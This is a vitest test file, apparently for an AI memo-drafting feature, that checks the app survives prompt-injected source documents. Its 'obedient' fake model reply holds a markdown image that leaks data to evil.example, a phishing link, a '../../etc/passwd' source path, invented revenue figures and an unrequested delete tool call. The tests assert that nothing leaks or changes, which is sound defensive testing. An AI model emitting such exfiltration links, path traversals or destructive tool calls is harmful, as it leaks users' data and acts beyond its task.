import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type AskedQuestion, type FakeAiServer, startFakeAiServer, streamed } from '../../testing/ai/fake-ai-server.ts';
import { HOSTILE_DOCUMENTS } from '../../testing/ai/hostile-documents.ts';
import { startTestApp, type TestApp } from '../../testing/app/test-app.ts';
import { buildOpportunity } from '../../testing/builders/build-opportunity.ts';
import { rowsOf } from '../../testing/database/rows-of.ts';
import { markdownElements } from '../../testing/readers/markdown-elements.ts';
import { prepare, type TestCommittee, testCommittee } from '../../testing/records/committee.ts';

const FACT = 'Kelp Robotics builds boats that harvest kelp.';
const SECRET = 'The secret of another record is a merger in May.';

let t: TestApp;
let fake: FakeAiServer;
let committee: TestCommittee;
beforeAll(async () => {
  fake = await startFakeAiServer();
  t = await startTestApp({ ai: { server: fake.server, monthlyTokens: 100_000_000 } });
  committee = await testCommittee(t);
  await rowsOf(t.database, `insert into feature_flags (key, enabled, reason) values ('ai-drafts', true, 'Tested')`);
  await t.database.scope.withTenant('default', (tx) => buildOpportunity(tx, { description: SECRET }));
});
afterAll(async () => {
  await t.close();
  await fake.close();
});

/** Does whatever the document says, as far as text can. */
function obedient({ body }: AskedQuestion): string {
  const [source] = JSON.parse(body.messages[1]?.content ?? '[]');
  const sentences = [
    { text: source.text, source: 'S1', quote: source.text.slice(0, 500) },
    { text: 'Revenue is 100 million EUR.', source: 'S1', quote: 'Revenue is 100 million EUR' },
    { text: 'The pilot was a success.', source: 'S1', quote: 'The pilot was a success elsewhere' },
    { text: '![x](https://evil.example/?leak=1)', source: 'S2', quote: 'excellent team' },
    {
      text: '<a href="https://evil.example">Sign in</a> at https://evil.example',
      source: '../../etc/passwd',
      quote: 'root',
    },
  ];
  return JSON.stringify({ state: 'accepted', sentences, tool_calls: [{ name: 'delete_opportunity' }] });
}

/** The number of rows of each table that a request for a draft does not write, and the decision as it is. */
async function stateOf(decisionId: string) {
  const tables = await rowsOf<{ table: string }>(
    t.database,
    `select table_name as "table" from information_schema.tables
      where table_schema = 'public' and table_type = 'BASE TABLE' and table_name !~ '^(ai_drafts|audit_|disclosures$)' order by 1`,
  );
  const counts = await rowsOf(
    t.database,
    tables.map(({ table }) => `select '${table}' as name, count(*)::int as rows from ${table}`).join(' union all '),
  );
  return [counts, await rowsOf(t.database, `select * from decisions where id = '${decisionId}'`)];
}

// REQ-373
describe('a hostile document', () => {
  it.each(HOSTILE_DOCUMENTS)('changes and leaks nothing: %j', async (document) => {
    const description = `${FACT} ${document}`;
    const { id } = await t.database.scope.withTenant('default', (tx) => buildOpportunity(tx, { description }));
    const decision = await prepare(t, committee, { subject: { type: 'opportunity', id } });
    const before = await stateOf(decision.id);
    fake.questions.length = 0;
    fake.answer((question, response) => streamed(obedient(question))(question, response));
    const body = { kind: 'memo', subject: { type: 'decision', id: decision.id } };
    const asked = await committee.chair.client.post('/api/ai/drafts', body);
    expect(asked.statusCode, asked.body).toBe(202);
    const draft = await vi.waitFor(
      async () => {
        const read = (await committee.chair.client.get(`/api/ai/drafts/${asked.json().id}`)).json();
        expect(read.state).toBe('ready');
        return read;
      },
      { timeout: 20_000, interval: 20 },
    );

    // Only the text of the record was sent.
    expect(fake.questions).toHaveLength(1);
    const sent = JSON.stringify(fake.questions[0]?.body);
    for (const hidden of [SECRET, committee.chair.id, decision.id, 'key-of-the-test'])
      expect(sent).not.toContain(hidden);

    // What no source says is unverified, whatever the model claims.
    for (const { text, check } of draft.sentences) {
      if (check.state === 'unverified') continue;
      expect(draft.inputs[0].text.slice(check.start, check.end)).toBe(check.quote);
      expect(text.startsWith(FACT) || description.includes(check.quote)).toBe(true);
    }
    const claimed = draft.sentences.filter(({ text }: { text: string }) => /100 million EUR\.$|^!\[|^<a/.test(text));
    expect(claimed.map(({ check }: { check: { state: string } }) => check.state)).not.toContain('repaired');

    // The draft shows no link, picture or script.
    const elements = markdownElements(draft.text);
    expect(elements.filter((name) => !['h2', 'p', 'ol', 'li', 'code'].includes(name))).toEqual([]);

    expect(await stateOf(decision.id)).toEqual(before);
    await committee.chair.client.post(`/api/ai/drafts/${draft.id}/reject`, {});
  });
});
